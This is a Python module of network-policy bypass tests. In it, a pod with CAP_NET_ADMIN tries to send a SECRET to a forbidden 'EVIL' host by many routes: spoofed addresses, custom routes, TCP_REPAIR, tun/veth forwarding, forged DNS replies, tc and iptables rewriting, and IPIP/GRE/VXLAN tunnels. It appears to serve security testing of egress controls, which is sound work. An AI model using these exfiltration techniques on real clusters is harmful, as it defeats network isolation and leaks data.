"""With CAP_NET_ADMIN a pod may change its own network: addresses, routes, devices, rules."""

import ctypes
import fcntl
import os
import socket
import struct
import subprocess
import threading
import time

from attack import *

ADMIN, BOTH = ["net_admin"], ["net_admin", "net_raw"]
LIBC = ctypes.CDLL(None, use_errno=True)
EVIL_PREFIX = EVIL4 + "/32"


def tun(name="tun7"):
    """A device whose packets this process reads and writes."""
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454ca, struct.pack("16sH22x", name.encode(), 0x1001))
    ip("link", "set", name, "up")
    return device


def veth(one="v7a", other="v7b"):
    ip("link", "add", one, "type", "veth", "peer", "name", other)
    for device in (one, other):
        ip("link", "set", device, "up")


def forward():
    sysctl("net.ipv4.ip_forward", "1")
    sysctl("net.ipv4.conf.all.rp_filter", "0")
    sysctl("net.ipv6.conf.all.forwarding", "1")


def clean(*devices):
    for device in devices:
        attempt(lambda: ip("link", "del", device))
    attempt(lambda: sysctl("net.ipv4.ip_forward", "0"), lambda: sysctl("net.ipv6.conf.all.forwarding", "0"))


@way(caps=ADMIN)
def marked():
    """A mark on the socket that other software may take for an exemption (SO_MARK), and a priority."""
    for mark in (0x1, 0xe00, 0x4000, 0x80000, 0xffffffff):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, mark)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_PRIORITY, 7)
        attempt(lambda: s.sendto(SECRET, (EVIL4, 123)))


@way(caps=ADMIN)
def another_address():
    """An address of its own choice on the interface, used as the source to where it may."""
    ip("addr", "add", FOREIGN4 + "/32", "dev", "eth0")
    ip("addr", "add", FOREIGN6 + "/128", "dev", "eth0", "nodad")
    try:
        for address, source in ((ALLOWED4, FOREIGN4), (ALLOWED6, FOREIGN6)):
            s = socket.socket(socket.AF_INET6 if ":" in source else socket.AF_INET, socket.SOCK_DGRAM)
            attempt(lambda: s.bind((source, 0)), lambda: s.sendto(SECRET, (address, 123)))
    finally:
        ip("addr", "del", FOREIGN4 + "/32", "dev", "eth0")
        ip("addr", "del", FOREIGN6 + "/128", "dev", "eth0")


@way(caps=ADMIN)
def another_route():
    """Routes of its own: the destination on the link, by way of an allowed one, encapsulated nowhere."""
    for route in (["via", GATEWAY4, "onlink"], ["scope", "link"]):
        ip("route", "add", EVIL_PREFIX, *route, "dev", "eth0")
        attempt(lambda: udp(EVIL4), lambda: tcp(EVIL4))
        ip("route", "del", EVIL_PREFIX)


@way(caps=ADMIN)
def destination_of_its_own():
    """The destination as an address of the pod on loopback, which is free; then the address goes, and the
    connection stays."""
    ip("addr", "add", EVIL_PREFIX, "dev", "lo")
    server = socket.create_server((EVIL4, 443))
    s = socket.create_connection((EVIL4, 443), TIMEOUT)
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt(lambda: datagrams.bind((POD4, 7097)), lambda: datagrams.connect((EVIL4, 123)))
    attempt(lambda: datagrams.send(SECRET))
    ip("addr", "del", EVIL_PREFIX, "dev", "lo")
    attempt(lambda: s.send(SECRET), lambda: datagrams.send(SECRET), lambda: datagrams.send(SECRET))
    time.sleep(0.5)
    server.close()


@way(caps=ADMIN)
def accepted_from_itself():
    """A connection that the pod accepted from the destination's address while that was its own, and goes on with it
    when it is not."""
    ip("addr", "add", EVIL_PREFIX, "dev", "lo")
    server = socket.create_server((POD4, 7098))
    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    client.settimeout(TIMEOUT)
    client.bind((EVIL4, 7099))
    client.connect((POD4, 7098))
    accepted = server.accept()[0]
    ip("addr", "del", EVIL_PREFIX, "dev", "lo")
    attempt(lambda: accepted.send(SECRET), lambda: server.close())
    time.sleep(0.5)


def repaired(mine, its):
    """A TCP socket that is made to believe in a connection (TCP_REPAIR)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(TIMEOUT)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.setsockopt(socket.IPPROTO_TCP, 19, 1)
    s.bind((POD4, mine))
    s.connect((EVIL4, its))
    # TCP_REPAIR_WINDOW: the far end takes what it gets.
    s.setsockopt(socket.IPPROTO_TCP, 29, struct.pack("=5I", 0, 65535, 65535, 65535, 0))
    s.setsockopt(socket.IPPROTO_TCP, 19, -1)
    return s


@way(caps=ADMIN)
def repaired_connection():
    """A connection without a handshake."""
    repaired(7100, 80).send(SECRET)


@way(caps=ADMIN)
def repaired_connection_of_a_listener():
    """A connection without a handshake from a port on which the pod listens, to one on which it listens too: it seems
    to have come in before the policy."""
    listeners = []
    for port in (7101, 80):
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        listener.bind(("0.0.0.0", port))
        listener.listen()
        listeners.append(listener)
    repaired(7101, 80).send(SECRET)


@way(caps=ADMIN)
def tun_forwarded():
    """Packets that come out of a tun device and are forwarded: no socket sends them."""
    device = tun()
    try:
        forward()
        os.write(device, ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET)))
        os.write(device, ip4(FOREIGN4, EVIL4, 17, udp_segment(FOREIGN4, EVIL4, 5000, 123, SECRET)))
        os.write(device, ip4(FOREIGN4, ALLOWED4, 17, udp_segment(FOREIGN4, ALLOWED4, 5000, 123, SECRET)))
        time.sleep(0.1)
    finally:
        clean()


@way(caps=BOTH)
def veth_forwarded():
    """The same by a pair of virtual interfaces."""
    veth()
    try:
        forward()
        for flags in (0x02, 0x12, 0x14, 0x10):
            send_frame(ip4("10.99.0.2", EVIL4, 6, tcp_segment("10.99.0.2", EVIL4, 5000, 80, flags, SECRET)),
                       device="v7b", to=mac("v7a"))
        ip("addr", "add", "10.99.0.1/24", "dev", "v7a")
        send_frame(ip4("10.99.0.2", EVIL4, 17, udp_segment("10.99.0.2", EVIL4, 5000, 123, SECRET)),
                   device="v7b", to=mac("v7a"))
        send_frame(ip6("fd99::2", EVIL6, 17, udp_segment("fd99::2", EVIL6, 5000, 123, SECRET)),
                   device="v7b", to=mac("v7a"))
        time.sleep(0.1)
    finally:
        clean("v7a")


@way(caps=BOTH)
def bridged():
    """The interface as a port of a bridge of the pod's own, and frames that come in by another port."""
    veth()
    ip("link", "add", "br7", "type", "bridge")
    try:
        hardware, to = mac(), gateway_mac()
        ip("link", "set", "br7", "up")
        ip("link", "set", "v7a", "master", "br7")
        ip("link", "set", "eth0", "master", "br7")
        time.sleep(0.1)
        packet = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
        for _ in range(3):
            send_frame(packet, device="v7b", to=to, source=hardware[:5] + bytes([hardware[5] ^ 1]))
            time.sleep(0.1)
    finally:
        ip("link", "set", "eth0", "nomaster")
        clean("br7", "v7a")


@way(caps=BOTH)
def macvlan():
    """A child of the interface with a hardware address of its own: ordinary sockets and frames."""
    ip("link", "add", "link", "eth0", "name", "mv7", "type", "macvlan", "mode", "bridge")
    try:
        ip("link", "set", "mv7", "up")
        ip("addr", "add", "10.77.0.177/24", "dev", "mv7")
        packet = ip4("10.77.0.177", EVIL4, 17, udp_segment("10.77.0.177", EVIL4, 5000, 123, SECRET))
        attempt(lambda: send_frame(packet, device="mv7"))
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt(lambda: s.bind(("10.77.0.177", 0)), lambda: s.sendto(SECRET, (EVIL4, 123)))
    finally:
        clean("mv7")


@way(caps=["net_admin", "net_raw", "sys_admin"])
def namespace_of_its_own():
    """A network namespace in the pod, routed through it: sockets, frames, and replies of its kernel."""
    outer = os.getpid()
    readable, writable = os.pipe()
    again, done = os.pipe()
    child = os.fork()
    if child == 0:
        if LIBC.unshare(0x40000000) != 0:
            os._exit(1)
        os.write(writable, b"!")
        os.read(again, 1)
        attempt(lambda: ip("link", "set", "v7b", "up"), lambda: ip("addr", "add", "10.99.0.2/24", "dev", "v7b"),
                lambda: ip("route", "add", "default", "via", "10.99.0.1"),
                lambda: udp(EVIL4), lambda: tcp(EVIL4),
                lambda: send_frame(ip4("10.99.0.2", EVIL4, 17, udp_segment("10.99.0.2", EVIL4, 5000, 123, SECRET)),
                                   device="v7b", to=b"\xff" * 6),
                lambda: send_raw(ip4("10.99.0.2", EVIL4, 1, echo_request("10.99.0.2", EVIL4, SECRET))))
        time.sleep(0.1)
        os._exit(0)
    os.read(readable, 1)
    try:
        ip("link", "add", "v7a", "type", "veth", "peer", "name", "v7b", "netns", str(child))
        ip("link", "set", "v7a", "up")
        ip("addr", "add", "10.99.0.1/24", "dev", "v7a")
        forward()
        send_to = mac("v7a")
        os.write(done, b"!")
        os.waitpid(child, 0)
    finally:
        clean("v7a")


@way(caps=BOTH)
def flow_that_never_came_in():
    """A datagram in the name of the destination that comes in by a device of the pod's own: then the pod replies."""
    veth()
    try:
        sysctl("net.ipv4.conf.all.rp_filter", "0")
        sysctl("net.ipv4.conf.v7a.rp_filter", "0")
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.bind(("", 7102))
        server.settimeout(TIMEOUT)
        send_frame(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 123, 7102, b"hello")), device="v7b", to=mac("v7a"))
        attempt(lambda: server.recvfrom(100))
        server.sendto(SECRET, (EVIL4, 123))
    finally:
        clean("v7a")


@way(caps=ADMIN)
def connection_that_never_came_in():
    """A TCP handshake in the name of the destination over a tun device: the pod accepts it, and goes on with it over
    the real interface."""
    device = tun()
    try:
        sysctl("net.ipv4.conf.tun7.rp_filter", "0")
        sysctl("net.ipv4.conf.all.rp_filter", "0")
        ip("route", "add", EVIL_PREFIX, "dev", "tun7")
        server = socket.create_server(("0.0.0.0", 7103))
        server.settimeout(TIMEOUT)
        os.write(device, ip4(EVIL4, POD4, 6, tcp_segment(EVIL4, POD4, 80, 7103, 2, seq=100, ack=0)))
        while True:
            reply = os.read(device, 2000)
            if reply[0] >> 4 == 4 and reply[9] == 6 and reply[33] & 0x12 == 0x12:
                break
        number = struct.unpack("!I", reply[24:28])[0]
        os.write(device, ip4(EVIL4, POD4, 6, tcp_segment(EVIL4, POD4, 80, 7103, 0x10, seq=101, ack=number + 1)))
        accepted = server.accept()[0]
        ip("route", "del", EVIL_PREFIX)
        accepted.send(SECRET)
        time.sleep(0.3)
    finally:
        clean()


@way(caps=BOTH)
def answer_that_never_came_in():
    """An answer in the name of the pod's resolver that comes in by a device of the pod's own, before the real one."""
    import names
    veth()
    try:
        sysctl("net.ipv4.conf.all.rp_filter", "0")
        sysctl("net.ipv4.conf.v7a.rp_filter", "0")
        ip("route", "add", "blackhole", RESOLVER4)
        attempt(lambda: names.ask(wait=False))
        ip("route", "del", "blackhole", RESOLVER4)
        forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, names.PORT, names.answer(7, EVIL4)))
        # The question leaves where nobody answers it: the real resolver is not asked.
        ip("route", "add", RESOLVER4, "dev", "v7a")
        ip("neigh", "replace", RESOLVER4, "lladdr", "02:00:00:00:00:99", "dev", "v7a")
        s = names.ask(wait=False)
        for _ in range(5):
            send_frame(forged, device="v7b", to=mac("v7a"))
        attempt(lambda: s.recv(1000))
        attempt(lambda: tcp(EVIL4, 443), lambda: udp(EVIL4))
    finally:
        clean("v7a")


@way(caps=ADMIN)
def redirected_from_loopback():
    """The destination routed over loopback, which is free, and a rule there that has the packets come in by a device
    and forwarded."""
    veth()
    ip("route", "add", EVIL_PREFIX, "dev", "lo", "metric", "1")
    try:
        forward()
        sysctl("net.ipv4.conf.v7a.accept_local", "1")
        sysctl("net.ipv4.conf.v7a.rp_filter", "0")
        command("tc", "qdisc", "add", "dev", "lo", "clsact")
        command("tc", "filter", "add", "dev", "lo", "egress", "protocol", "ip", "u32", "match", "ip", "dst", EVIL_PREFIX,
                "action", "mirred", "ingress", "redirect", "dev", "v7a")
        # What comes in takes the other route.
        ip("rule", "add", "iif", "v7a", "lookup", "77", "pref", "1")
        ip("route", "add", "default", "via", GATEWAY4, "dev", "eth0", "table", "77")
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt(lambda: s.bind((POD4, 0)), lambda: s.sendto(SECRET, (EVIL4, 123)))
        time.sleep(0.1)
    finally:
        attempt(lambda: command("tc", "qdisc", "del", "dev", "lo", "clsact"), lambda: ip("route", "del", EVIL_PREFIX),
                lambda: ip("rule", "del", "pref", "1"), lambda: ip("route", "flush", "table", "77"))
        clean("v7a")


@way(caps=ADMIN)
def rewritten_behind_the_programs():
    """Datagrams to where the pod may, whose destination a rule of the interface changes afterwards (tc pedit)."""
    command("tc", "qdisc", "add", "dev", "eth0", "clsact")
    try:
        command("tc", "filter", "add", "dev", "eth0", "egress", "protocol", "ip", "u32", "match", "ip", "dst",
                ALLOWED4 + "/32", "action", "pedit", "ex", "munge", "ip", "dst", "set", EVIL4, "pipe", "csum", "ip", "and", "udp")
        attempt(lambda: udp(ALLOWED4), lambda: tcp(ALLOWED4))
    finally:
        command("tc", "qdisc", "del", "dev", "eth0", "clsact")


@way(caps=BOTH)
def translated():
    """Connections to where the pod may, translated to where it may not (iptables DNAT)."""
    rule = ["-d", ALLOWED4 + "/32", "-j", "DNAT", "--to-destination", EVIL4]
    command("iptables", "-t", "nat", "-A", "OUTPUT", *rule)
    try:
        attempt(lambda: udp(ALLOWED4), lambda: tcp(ALLOWED4))
    finally:
        command("iptables", "-t", "nat", "-D", "OUTPUT", *rule)


def tunnelled(kind, *arguments):
    ip("link", "add", "t7", "type", kind, *arguments)
    try:
        ip("link", "set", "t7", "up")
        ip("addr", "add", "10.98.0.1/24", "dev", "t7")
        attempt(lambda: ip("neigh", "replace", "10.98.0.2", "lladdr", "02:00:00:00:00:98", "dev", "t7"))
        for _ in range(2):
            attempt(lambda: udp("10.98.0.2"))
            time.sleep(0.05)
    finally:
        clean("t7")


@way(caps=ADMIN)
def tunnel_of_ip():
    """IP in IP to the destination: the outer packets are of the kernel's making."""
    tunnelled("ipip", "local", POD4, "remote", EVIL4)


@way(caps=ADMIN)
def tunnel_of_gre():
    """GRE to the destination."""
    tunnelled("gre", "local", POD4, "remote", EVIL4)


@way(caps=ADMIN)
def tunnel_of_vxlan():
    """VXLAN to the destination."""
    tunnelled("vxlan", "id", "7", "local", POD4, "remote", EVIL4, "dstport", "4789")


@way(caps=ADMIN)
def multipath_subflows():
    """Multipath TCP to where it may, with more subflows by way of an endpoint of its own."""
    ip("addr", "add", FOREIGN4 + "/32", "dev", "eth0")
    try:
        ip("mptcp", "limits", "set", "subflow", "4", "add_addr_accepted", "4")
        ip("mptcp", "endpoint", "add", FOREIGN4, "dev", "eth0", "subflow", "signal")
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        s.settimeout(TIMEOUT)
        s.bind((FOREIGN4, 0))
        attempt(lambda: s.connect((ALLOWED4, 80)), lambda: s.send(SECRET))
    finally:
        attempt(lambda: ip("mptcp", "endpoint", "flush"), lambda: ip("addr", "del", FOREIGN4 + "/32", "dev", "eth0"))
